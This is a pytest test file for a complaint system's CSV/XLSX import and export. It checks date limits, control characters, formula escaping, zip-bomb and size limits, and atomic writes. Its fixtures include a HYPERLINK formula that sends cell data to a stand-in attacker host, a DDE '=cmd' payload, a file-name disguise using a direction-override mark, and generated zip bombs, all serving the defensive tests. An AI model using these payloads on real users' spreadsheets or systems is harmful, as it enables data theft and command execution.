"""Data that must never get in: dates before the team's earliest date, control characters, and
cells a spreadsheet would run as formulas. And what is already in survives."""

import csv
import datetime as dt

import pytest

from app import cli, settings, tabular, validation
from app.complaints import service, transfer
from app.customers import installations
from app.customers.customers import CustomerData, create_customer
from app.errors import KefuError, ValidationError
from app.roster import leave
from app.tabular import ImportFailed, read_table
from models import AuditLog, Complaint, database
from models.db import is_sqlite
from tests.conftest import PASSWORD


def write_csv(path, rows, headers=transfer.HEADERS):
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(headers)
        for row in rows:
            writer.writerow([row.get(h, "") for h in headers])
    return path


def good_row(**extra):
    return {
        "投诉时间": "2026-11-20 10:00",
        "投诉人": "甲",
        "联系方式": "13800000001",
        "投诉内容": "屏幕不亮",
        **extra,
    }


def register(agent, **extra):
    fields = {
        "complainant": "陈先生",
        "contact": "13912345678",
        "category": "delivery",
        "content": "包装破损",
        **extra,
    }
    return service.register_complaint(agent, **fields)


# --- point 1: the earliest date ----------------------------------------------------------------


def test_an_import_refuses_every_date_column_before_2000_naming_row_and_column(
    db_url, agent, tmp_path
):
    path = write_csv(
        tmp_path / "in.csv",
        [
            good_row(),
            good_row(投诉时间="0206-11-25 10:00", 联系方式="13800000002"),
            good_row(承诺处理时间="1999-12-31 23:59", 联系方式="13800000003"),
            good_row(
                联系方式="13800000004",
                处理进程="0206-11-25 11:00 电话沟通（李客服）：已回电",
            ),
            good_row(联系方式="13800000005", 状态="已解决", 解决时间="0001-01-01"),
        ],
    )
    with pytest.raises(ImportFailed) as failed:
        transfer.import_complaints(agent, path)
    message = str(failed.value)
    assert "row 3, 投诉时间: 0206-11-25 10:00 is before 2000-01-01" in message
    assert "row 4, 承诺处理时间: 1999-12-31 23:59 is before 2000-01-01" in message
    assert "row 5, 处理进程: 0206-11-25 11:00 is before 2000-01-01" in message
    assert "row 6, 解决时间: 0001-01-01 00:00 is before 2000-01-01" in message
    assert "row 2" not in message
    assert Complaint.select().count() == 0


def test_a_form_refuses_a_date_before_the_team_setting(db_url, agent, admin):
    with pytest.raises(ValidationError) as refused:
        register(agent, received_at=dt.datetime(1999, 12, 31, 9, 0))
    assert set(refused.value.fields) == {"received_at"}
    assert register(agent, received_at=dt.datetime(2000, 1, 1, 9, 0)).number == "20000101-001"
    settings.put(admin, "earliest_date", "2020-01-01")
    with pytest.raises(ValidationError) as refused:
        register(agent, received_at=dt.datetime(2019, 5, 1, 9, 0))
    assert "2020-01-01" in refused.value.fields["received_at"]
    complaint = register(agent)
    with pytest.raises(ValidationError) as refused:
        service.update_complaint(agent, complaint.id, {"promised_at": dt.datetime(206, 1, 1)})
    assert set(refused.value.fields) == {"promised_at"}
    with pytest.raises(ValidationError):
        service.add_step(agent, complaint.id, "phone", "x", dt.datetime(1, 1, 1))
    with pytest.raises(ValidationError) as refused:
        settings.put(admin, "earliest_date", "0206-01-01")
    assert set(refused.value.fields) == {"earliest_date"}


def test_other_date_fields_go_through_the_same_rule(db_url, agent):
    customer = create_customer(agent, CustomerData(name="育才中学", phones=["13911112222"]))
    with pytest.raises(ValidationError) as refused:
        installations.schedule_installation(
            agent, customer, product="白板", agreed_date=dt.date(206, 11, 25)
        )
    assert set(refused.value.fields) == {"agreed_date"}
    with pytest.raises(ValidationError) as refused:
        leave.plan_for(agent, dt.datetime(206, 12, 1, 8), dt.datetime(206, 12, 1, 18), None)
    assert set(refused.value.fields) == {"start_at", "end_at"}


def _poison(complaint_id: int, year: int) -> None:
    Complaint.update(
        received_at=dt.datetime(year, 11, 25, 10, 0), promised_at=dt.datetime(year, 11, 26, 10)
    ).where(Complaint.id == complaint_id).execute()


@pytest.mark.parametrize("year", [206, 1])
def test_a_bad_date_already_in_the_database_is_exported_not_a_crash(
    db_url, agent, tmp_path, year, monkeypatch, capsys
):
    kept = register(agent)
    bad = register(agent, contact="13900001111")
    _poison(bad.id, year)
    if is_sqlite(database.obj) and year == 206:
        # what an older version wrote on SQLite for the year 206: a three-digit year
        database.execute_sql(
            "UPDATE complaint SET received_at = '206-11-25 10:00:00' WHERE id = ?", (bad.id,)
        )
    assert Complaint.get_by_id(bad.id).received_at == dt.datetime(year, 11, 25, 10, 0)
    monkeypatch.setenv("KEFU_USER", agent.login)
    monkeypatch.setenv("KEFU_PASSWORD", PASSWORD)
    out = tmp_path / "out.csv"
    assert cli.main(["--lang", "en", "export", "complaints", "--db", db_url, "-o", str(out)]) == 0
    rows = {r["编号"]: r for _n, r in read_table(out).rows}
    assert rows[kept.number]["投诉时间"] == "2026-11-26 10:30"
    assert rows[bad.number]["投诉时间"] == f"{year:04d}-11-25 10:00"
    assert "exported 2 complaint(s)" in capsys.readouterr().out


def test_the_import_writes_full_years_on_sqlite(db_url, agent, tmp_path):
    path = write_csv(tmp_path / "in.csv", [good_row()])
    transfer.import_complaints(agent, path)
    (stored,) = database.execute_sql("SELECT received_at FROM complaint").fetchone()
    assert str(stored).startswith("2026-11-20 10:00")


# --- point 3: control characters --------------------------------------------------------------


def test_text_rule():
    assert validation.text_problem("第一行\n第二行\t制表\r\n") is None
    assert "U+0000" in validation.text_problem("a\x00b")
    assert "U+001B" in validation.text_problem("\x1b[31m红")
    assert validation.clean_text("\u202egnp.exe\u200b王") == "gnp.exe王"


@pytest.mark.parametrize("bad", ["王\x00女士", "\x1b[31m王女士", "王\x7f女士"])
def test_a_form_refuses_control_characters_at_the_field(db_url, agent, bad):
    with pytest.raises(ValidationError) as refused:
        register(agent, complainant=bad)
    assert set(refused.value.fields) == {"complainant"}
    assert "control character" in refused.value.fields["complainant"]
    with pytest.raises(ValidationError) as refused:
        create_customer(agent, CustomerData(name="育才中学", notes=bad))
    assert set(refused.value.fields) == {"notes"}
    assert Complaint.select().count() == 0


def test_tabs_and_line_breaks_are_kept_and_invisible_marks_removed(db_url, agent):
    c = register(agent, complainant="\u202e王女士\u200b", content="第一行\n\t第二行")
    c = Complaint.get_by_id(c.id)
    assert (c.complainant, c.content) == ("王女士", "第一行\n\t第二行")


def test_an_import_refuses_control_characters_with_the_row(db_url, agent, tmp_path):
    path = write_csv(
        tmp_path / "in.csv",
        [
            good_row(),
            good_row(投诉人="王\x00女士", 联系方式="13800000002"),
            good_row(投诉内容="\x1b[2J清屏", 联系方式="13800000003"),
            good_row(投诉人="\u202e李先生", 联系方式="13800000004"),
        ],
    )
    with pytest.raises(ImportFailed) as failed:
        transfer.import_complaints(agent, path)
    message = str(failed.value)
    assert "row 3, 投诉人: Contains a control character (U+0000)" in message
    assert "row 4, 投诉内容: Contains a control character (U+001B)" in message
    assert "row 5" not in message and "row 2" not in message
    report = transfer.import_complaints(agent, path, skip_invalid=True)
    assert (report.imported, report.rejected) == (2, 2)
    assert sorted(Complaint.select(Complaint.complainant).tuples()) == [("李先生",), ("甲",)]
    assert [r["Row"] for _n, r in read_table(report.rejects_file).rows] == ["3", "4"]


# --- point 2: formulas in CSV ------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+86 138",
    "-2+3",
    "@SUM(A1:A9)",
    "  =1+1",
    "'=already quoted",
    "'plain quote",
]


def test_every_csv_cell_that_could_run_is_written_as_text_and_read_back_exactly(
    db_url, agent, tmp_path
):
    for index, text in enumerate(FORMULAS):
        register(agent, complainant=f"客户{index}", contact=f"1390000000{index}", content=text)
    register(agent, complainant=FORMULAS[0], contact="13911110000", content="正常")
    first = tmp_path / "first.csv"
    transfer.export_complaints(first)
    with first.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    runnable = [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert runnable == []
    assert "'" + FORMULAS[0] in cells and "'=1+1" in cells and "''=already quoted" in cells
    assert "'plain quote" in cells
    Complaint.delete().execute()
    transfer.import_complaints(agent, first)
    assert sorted(c for (c,) in Complaint.select(Complaint.content).tuples()) == sorted(
        [t.strip() for t in FORMULAS] + ["正常"]
    )
    second = tmp_path / "second.csv"
    transfer.export_complaints(second)
    assert first.read_bytes() == second.read_bytes()


@pytest.mark.parametrize("text", ["  =1+1", "\t=1+1", "\r=1+1", " -1", "''@x", "'", "a=b"])
def test_a_cell_read_back_is_the_cell_written(text):
    written = tabular.csv_cell(text)
    assert not written.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert tabular.csv_text(written) == text


def test_the_customer_export_and_the_reject_file_are_neutralised_too(db_url, agent, tmp_path):
    from app.customers import transfer as customers

    create_customer(agent, CustomerData(name="=cmd|' /C calc'!A0", phones=["13911112222"]))
    out = tmp_path / "customers.csv"
    customers.export_customers(out)
    assert "\n'=cmd|" in out.read_text(encoding="utf-8-sig")
    bad = write_csv(tmp_path / "in.csv", [good_row(投诉人="@bad", 联系方式="12")])
    report = transfer.import_complaints(agent, bad, skip_invalid=True)
    text = report.rejects_file.read_text(encoding="utf-8-sig")
    assert ",'@bad," in text
    assert read_table(report.rejects_file).rows[0][1]["投诉人"] == "@bad"


def test_xlsx_keeps_a_formula_like_text_as_an_inline_string(db_url, agent, tmp_path):
    from openpyxl import load_workbook

    register(agent, complainant=FORMULAS[0])
    out = tmp_path / "out.xlsx"
    transfer.export_complaints(out)
    cell = load_workbook(out).worksheets[0]["C2"]
    assert (cell.value, cell.data_type) == (FORMULAS[0], "s")
    Complaint.delete().execute()
    transfer.import_complaints(agent, out)
    assert Complaint.get().complainant == FORMULAS[0]


# --- point 4: files that are not what they claim ------------------------------------------------


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(db_url, agent, admin, tmp_path):
    settings.put(admin, "import_max_mb", 1)
    path = write_csv(tmp_path / "big.csv", [good_row(投诉内容="长" * 600_000)])
    with pytest.raises(ValidationError) as refused:
        transfer.import_complaints(agent, path)
    assert str(refused.value) == "big.csv is 1.7 MB; an import reads at most 1.0 MB (team setting)."


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_file_over_the_row_limit_is_refused(db_url, agent, admin, tmp_path, suffix):
    settings.put(admin, "import_max_rows", 100)
    rows = [good_row(联系方式=f"138{n:08d}") for n in range(101)]
    path = tmp_path / f"many{suffix}"
    tabular.write_table(
        path, transfer.HEADERS, [[r.get(h, "") for h in transfer.HEADERS] for r in rows]
    )
    with pytest.raises(ValidationError) as refused:
        transfer.import_complaints(agent, path)
    assert "has more than 100 rows; an import reads at most 100 (team setting)" in str(
        refused.value
    )
    path = tmp_path / f"enough{suffix}"
    tabular.write_table(
        path, transfer.HEADERS, [[r.get(h, "") for h in transfer.HEADERS] for r in rows[:100]]
    )
    assert transfer.import_complaints(agent, path).imported == 100


def test_a_cell_of_a_megabyte_is_one_line(db_url, agent, tmp_path):
    path = write_csv(tmp_path / "cell.csv", [good_row(), good_row(投诉内容="x" * 1_000_000)])
    with pytest.raises(ValidationError) as refused:
        transfer.import_complaints(agent, path)
    assert str(refused.value) == "line 3: a cell is longer than 100000 characters."


def test_an_xlsx_that_is_not_a_workbook_is_one_line(db_url, agent, tmp_path):
    path = tmp_path / "fake.xlsx"
    path.write_text("投诉时间,投诉人\n", encoding="utf-8")
    with pytest.raises(ValidationError) as refused:
        transfer.import_complaints(agent, path)
    assert str(refused.value) == "fake.xlsx is not an Excel workbook (.xlsx)."
    path.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    with pytest.raises(ValidationError):
        transfer.import_complaints(agent, path)


def test_a_zip_bomb_is_refused_by_its_declared_size(db_url, agent, admin, tmp_path):
    import zipfile

    settings.put(admin, "import_max_mb", 1)
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (12 * 1024 * 1024))
    assert path.stat().st_size < 100_000
    with pytest.raises(ValidationError) as refused:
        transfer.import_complaints(agent, path)
    assert str(refused.value).startswith(
        "bomb.xlsx would unpack to 12.0 MB; an import reads workbooks of at most 1.2 MB unpacked"
    )


def test_a_zip_bomb_below_ten_times_the_limit_is_refused_by_its_ratio(db_url, agent, tmp_path):
    import zipfile

    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (60 * 1024 * 1024))
    with pytest.raises(ValidationError) as refused:
        transfer.import_complaints(agent, path)
    assert str(refused.value) == (
        "bomb.xlsx would unpack to 60.0 MB; an import reads workbooks of at most 50.0 MB unpacked."
    )


# --- point 5: --skip-invalid, reject files and repeated imports ----------------------------------


def test_the_reject_file_is_written_before_the_commit_or_nothing_is_imported(
    db_url, agent, tmp_path, monkeypatch
):
    import tempfile

    path = write_csv(tmp_path / "in.csv", [good_row(), good_row(联系方式="12")])
    (tmp_path / "in.rejects.csv").mkdir()  # the file beside the input cannot be written
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(elsewhere))
    report = transfer.import_complaints(agent, path, skip_invalid=True)
    assert report.rejects_file == elsewhere / "in.rejects.csv"
    assert [r["Row"] for _n, r in read_table(report.rejects_file).rows] == ["3"]
    assert Complaint.select().count() == 1

    Complaint.delete().execute()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "missing"))
    with pytest.raises(KefuError) as refused:
        transfer.import_complaints(agent, path, skip_invalid=True, again=True)
    assert "Cannot write" in str(refused.value) and "in.rejects.csv" in str(refused.value)
    assert Complaint.select().count() == 0


def test_a_file_imported_before_is_refused_unless_again(
    db_url, agent, tmp_path, monkeypatch, capsys
):
    from app.customers import transfer as customers

    path = write_csv(tmp_path / "in.csv", [good_row(), good_row(联系方式="12")])
    monkeypatch.setenv("KEFU_USER", agent.login)
    monkeypatch.setenv("KEFU_PASSWORD", PASSWORD)
    command = [
        "--lang",
        "en",
        "import",
        "complaints",
        "--db",
        db_url,
        str(path),
        "--user",
        agent.login,
    ]
    assert cli.main([*command, "--skip-invalid"]) == 0
    assert Complaint.select().count() == 1
    capsys.readouterr()
    assert cli.main([*command, "--skip-invalid"]) == 1
    err = capsys.readouterr().err
    assert "was already imported on 2026-11-26" in err and "--again" in err
    assert len(err.strip().splitlines()) == 1
    assert Complaint.select().count() == 1
    assert cli.main([*command, "--skip-invalid", "--again"]) == 0
    assert Complaint.select().count() == 2
    entries = list(AuditLog.select().where(AuditLog.action == "import"))
    assert [e.table for e in entries] == ["complaint", "complaint"]
    assert tabular.fingerprint(path) in entries[0].changes

    people = tmp_path / "people.csv"
    write_csv(
        people, [{"客户名称": "育才中学", "电话": "13911112222"}], headers=["客户名称", "电话"]
    )
    customers.import_customers(agent, people)
    with pytest.raises(tabular.AlreadyImported):
        customers.import_customers(agent, people)
    assert customers.import_customers(agent, people, again=True, skip_invalid=True).rejected == 1


# --- point 7: a full disk during an import ----------------------------------------------------


def test_a_full_database_disk_says_so_and_nothing_is_imported(sqlite_url, agent, tmp_path):
    rows = [good_row(联系方式=f"138{n:08d}", 投诉内容="内容" * 200) for n in range(3000)]
    path = write_csv(tmp_path / "many.csv", rows)
    (pages,) = database.execute_sql("PRAGMA page_count").fetchone()
    # the database may grow by a few pages only: SQLite then fails with SQLITE_FULL, the error
    # a full disk gives
    database.execute_sql(f"PRAGMA max_page_count = {pages + 20}")
    with pytest.raises(KefuError) as refused:
        transfer.import_complaints(agent, path)
    assert str(refused.value) == "The disk holding the database is full: nothing was imported."
    assert Complaint.select().count() == 0
    assert not AuditLog.select().where(AuditLog.action == "import").exists()


# --- point 6: outputs appear whole or not at all ----------------------------------------------


def test_a_failed_export_leaves_the_earlier_file_and_no_litter(db_url, agent, tmp_path, capsys):
    from reportlab.platypus import Flowable

    from app import pdf

    register(agent)
    tmp_path = tmp_path / "exports"
    tmp_path.mkdir()
    out = tmp_path / "out.csv"
    out.write_text("the earlier export", encoding="utf-8")

    def rows():
        yield ["20261126-001", "2026-11-26 10:30"]
        raise OSError(28, "No space left on device")

    with pytest.raises(KefuError) as refused:
        tabular.write_table(out, ["编号", "投诉时间"], rows())
    assert str(refused.value) == (
        f"Cannot write {out}: the disk is full. An earlier file is unchanged."
    )
    assert out.read_text(encoding="utf-8") == "the earlier export"

    class Broken(Flowable):
        def wrap(self, *_args):
            raise ValueError("layout failed")

    sheet = tmp_path / "sheet.pdf"
    sheet.write_bytes(b"%PDF earlier")
    with pytest.raises(ValueError):
        pdf.build_pdf(sheet, [pdf.para("标题"), Broken()], title="月度投诉登记表")
    assert sheet.read_bytes() == b"%PDF earlier"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv", "sheet.pdf"]

    missing = tmp_path / "no-such-folder" / "out.xlsx"
    assert (
        cli.main(["--lang", "en", "export", "complaints", "--db", db_url, "-o", str(missing)]) == 1
    )
    err = capsys.readouterr().err
    assert (
        err
        == f"error: Cannot write {missing}: the folder does not exist. An earlier file is unchanged.\n"
    )


def test_an_export_to_a_full_disk_is_one_line_and_keeps_the_earlier_file(
    sqlite_url, agent, tmp_path, capsys
):
    import subprocess

    folder = tmp_path / "small"
    folder.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(folder)],
        capture_output=True,
        check=False,
    )
    if mounted.returncode != 0:
        pytest.skip("cannot mount a small file system here (needs root)")
    try:
        out = folder / "out.csv"
        out.write_text("the earlier export", encoding="utf-8")
        for n in range(40):
            register(agent, contact=f"139{n:08d}", content="很长的投诉内容。" * 100)
        assert (
            cli.main(["--lang", "en", "export", "complaints", "--db", sqlite_url, "-o", str(out)])
            == 1
        )
        err = capsys.readouterr().err
        assert (
            err == f"error: Cannot write {out}: the disk is full. An earlier file is unchanged.\n"
        )
        assert out.read_text(encoding="utf-8") == "the earlier export"
        assert [p.name for p in folder.iterdir()] == ["out.csv"]
    finally:
        subprocess.run(["umount", str(folder)], check=False)
